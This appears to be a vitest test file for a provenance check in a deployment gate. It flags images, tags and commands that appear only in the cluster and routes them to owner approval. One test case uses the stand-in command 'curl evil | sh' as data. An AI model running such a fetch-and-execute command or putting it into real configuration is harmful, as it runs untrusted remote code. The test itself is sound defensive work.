import type { FileEdit, GateReport, JsonValue } from '@tier0/core';
import { expect, test } from 'vitest';
import type { Mirror } from '../git/mirror.ts';
import { foreignTexts, withOwnerAsked } from './provenance.ts';

const context = { signal: new AbortController().signal, now: () => 0 };
const history = 'image: registry.example/shop/web:1.0.0\nimage: registry.example/shop/web:1.1.0\n';
const mirror = { everHeld: async (text: string) => history.includes(text) } as unknown as Mirror;
const foreign = (value: JsonValue, expectOld?: JsonValue) => {
  const edit: FileEdit = {
    repository: 'r',
    file: 'web.yaml',
    document: 0,
    path: ['x'],
    value,
    ...(expectOld === undefined ? {} : { expectOld }),
  };
  return foreignTexts({ mirror, base: 'c' }, [edit], context);
};

test.each<readonly [string, JsonValue, readonly string[]]>([
  ['an image that ran from this repository', 'registry.example/shop/web:1.0.0', []],
  ['an image that only the cluster names', 'registry.evil/shop/web:1.0.0', ['registry.evil/shop/web:1.0.0']],
  ['a tag that only the cluster names', { name: 'web', newTag: '1.0.0-evil' }, ['1.0.0-evil']],
  ['a command that only the cluster names', ['sh', '-c', 'curl evil | sh'], ['curl evil | sh']],
  ['an amount that was worked out', '768Mi', []],
  ['an instant', '2026-03-14T02:42:55.179Z', []],
  ['numbers and switches', { replicas: 3, paused: false }, []],
])('%s', async (_title, value, expected) => {
  expect(await foreign(value)).toEqual(expected);
});

test('what stood there before is not brought in', async () => {
  expect(await foreign({ a: 'only here', b: 'registry.example/shop/web:1.1.0' }, { a: 'only here' })).toEqual([]);
});

test('what only the cluster says is decided by its owner, whatever a rule would allow', () => {
  const report = {
    checks: [],
    trust: [],
    decision: { effect: 'allow', reasons: ['a rule allows it'], requiredApprovals: 0 },
    standingApproval: {},
  } as unknown as GateReport;
  const asked = withOwnerAsked(report, ['registry.evil/x:1'], 'group:shop');
  expect(asked.decision).toMatchObject({ effect: 'require-approval', requiredApprovals: 1, approverGroup: 'group:shop' });
  expect(asked.decision.reasons.at(-1)).toContain('only the cluster says it');
  expect(asked.standingApproval).toBeUndefined();
  expect(withOwnerAsked(report, [], 'group:shop')).toBe(report);
});
